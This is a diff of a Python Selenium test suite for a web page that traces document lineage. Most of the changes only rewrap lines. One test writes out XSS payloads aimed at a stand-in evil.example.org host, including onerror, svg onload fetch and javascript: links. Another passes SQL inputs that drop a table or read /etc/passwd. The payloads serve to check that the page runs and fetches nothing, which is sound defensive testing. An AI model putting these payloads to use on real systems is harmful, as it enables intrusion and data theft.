@@ -1,4 +1,5 @@
-"""The lineage page in a real headless Chromium: the ways that people go on it, and texts that are meant to harm."""
+"""The lineage page in a real headless Chromium: the ways that people go on it, and texts that are meant to
+harm."""
 
 from __future__ import annotations
 
@@ -21,7 +22,9 @@ def doc_id_of(out: str, url: str) -> str:
     return next(str(doc_id) for doc_id, found in rows if found == url)
 
 
-def test_a_takedown_by_mail_goes_from_its_urls_to_a_proof_on_paper(page: tuple[str, str], browser: Any) -> None:
+def test_a_takedown_by_mail_goes_from_its_urls_to_a_proof_on_paper(
+    page: tuple[str, str], browser: Any
+) -> None:
     from selenium.webdriver.common.by import By
 
     address, out = page
@@ -29,7 +32,11 @@ def test_a_takedown_by_mail_goes_from_its_urls_to_a_proof_on_paper(page: tuple[s
     assert "token" not in browser.current_url, "the token must not stay in the address bar"
     base = browser.current_url
     # The first with a slash too many, the second with one too few.
-    for url in ("https://web.example.org/page-1/", "https://web.example.org/people", "https://copy.example.org/of-3"):
+    for url in (
+        "https://web.example.org/page-1/",
+        "https://web.example.org/people",
+        "https://copy.example.org/of-3",
+    ):
         browser.find_element(By.ID, "q").clear()
         browser.find_element(By.ID, "q").send_keys(url + "\n")
         browser.find_element(By.ID, "doc-id")
@@ -67,7 +74,8 @@ def test_a_strange_sample_leads_from_its_step_to_its_text_its_cluster_and_the_ru
     from selenium.webdriver.common.by import By
 
     rows = query(
-        Folder(made), "SELECT doc_id, url FROM documents WHERE cluster_id IS NOT NULL ORDER BY status <> 'kept'"
+        Folder(made),
+        "SELECT doc_id, url FROM documents WHERE cluster_id IS NOT NULL ORDER BY status <> 'kept'",
     )
     kept, url = str(rows.rows[0][0]), str(rows.rows[0][1])
     browser.get(shared_page)
@@ -107,12 +115,16 @@ def test_hostile_texts_run_nothing_and_fetch_nothing_on_any_page(tmp_path: Path,
             f'"><img src={other}image onerror=document.title="stolen">',
             f"'><script src={other}script></script>",
             f"</title></textarea></style><svg onload=fetch('{other}fetch')>",
-            f"<link rel=stylesheet href={other}style><meta http-equiv=refresh content='0;url={other}refresh'>",
+            f"<link rel=stylesheet href={other}style><meta http-equiv=refresh"
+            f" content='0;url={other}refresh'>",
             f"{{{{7*7}}}}${{7*7}}<iframe src={other}frame></iframe>\u202e\x00\x1b[31m",
             f"<p hx-get={other}htmx hx-trigger=load>",
         ]
         urls = [f"https://evil.example.org/{mark}" for mark in marks] + [f"javascript:fetch('{other}link')//"]
-        posts = [{"url": url, "id": url, "text": f"{marks[n % len(marks)]} {prose(n)}"} for n, url in enumerate(urls)]
+        posts = [
+            {"url": url, "id": url, "text": f"{marks[n % len(marks)]} {prose(n)}"}
+            for n, url in enumerate(urls)
+        ]
         posts.append({"url": "https://evil.example.org/long", "id": "long", "text": "x" * 10_000_000})
         (tmp_path / "posts.jsonl").write_text("".join(json.dumps(post) + "\n" for post in posts))
         out = str(tmp_path / "out")
@@ -123,15 +135,21 @@ def test_hostile_texts_run_nothing_and_fetch_nothing_on_any_page(tmp_path: Path,
 
         def check(place: str) -> None:
             assert browser.title != "stolen", place
-            fetched = browser.execute_script("return performance.getEntriesByType('resource').map(e => e.name)")
+            fetched = browser.execute_script(
+                "return performance.getEntriesByType('resource').map(e => e.name)"
+            )
             assert [name for name in fetched if not name.startswith(base)] == [], place
             own = f"script:not([src^='/{base.split('/', 3)[3]}static/'])"
-            assert browser.find_elements(By.CSS_SELECTOR, f"{own}, iframe, img, [onerror], [onload]") == [], place
+            assert browser.find_elements(By.CSS_SELECTOR, f"{own}, iframe, img, [onerror], [onload]") == [], (
+                place
+            )
             assert "\u202e" not in browser.find_element(By.TAG_NAME, "body").text, place
             # At one moment, since a page puts pieces in their places meanwhile.
             links = browser.execute_script("return [...document.links].map(link => link.href)")
             assert [link for link in links if str(link).startswith("javascript:")] == [], place
-            assert [e for e in browser.get_log("browser") if "Content Security Policy" in e["message"]] == [], place
+            assert [
+                e for e in browser.get_log("browser") if "Content Security Policy" in e["message"]
+            ] == [], place
 
         with served(out) as address:
             browser.implicitly_wait(0)
@@ -145,7 +163,11 @@ def test_hostile_texts_run_nothing_and_fetch_nothing_on_any_page(tmp_path: Path,
             check("host")
             browser.get(f"{base}search?q=words:onload")
             check("words")
-            for asked in (*marks, "SELECT doc_id, url, host FROM documents", "SELECT '<svg onload=1>' AS \"<b>\""):
+            for asked in (
+                *marks,
+                "SELECT doc_id, url, host FROM documents",
+                "SELECT '<svg onload=1>' AS \"<b>\"",
+            ):
                 browser.get(f"{base}sql?{urlencode({'q': asked})}")
                 check(f"sql {asked}")
             for doc_id, url in rows:
@@ -203,7 +225,9 @@ def test_report_and_page_lead_to_each_other_and_figures_to_their_documents(
     assert len(browser.find_elements(By.CSS_SELECTOR, "#rows tr")) - 1 == num
 
 
-def test_a_threshold_that_is_dragged_says_what_changes_and_the_command_to_run(shared_page: str, browser: Any) -> None:
+def test_a_threshold_that_is_dragged_says_what_changes_and_the_command_to_run(
+    shared_page: str, browser: Any
+) -> None:
     from selenium.webdriver.common.by import By
     from selenium.webdriver.common.keys import Keys
 
@@ -222,7 +246,9 @@ def test_a_threshold_that_is_dragged_says_what_changes_and_the_command_to_run(sh
     assert "then: " in rule.find_element(By.CSS_SELECTOR, ".tuned p").text
 
 
-@pytest.mark.parametrize("wrong", ["DROP TABLE documents", "SELECT * FROM read_csv('/etc/passwd')", "SELECT no FROM x"])
+@pytest.mark.parametrize(
+    "wrong", ["DROP TABLE documents", "SELECT * FROM read_csv('/etc/passwd')", "SELECT no FROM x"]
+)
 def test_the_sql_box_reads_and_never_writes(shared_page: str, wrong: str) -> None:
     answer = Visitor(shared_page).get(f"sql?{urlencode({'q': wrong})}")
     assert answer.status_code == 404 and "root:" not in answer.text and 'id="rows"' not in answer.text
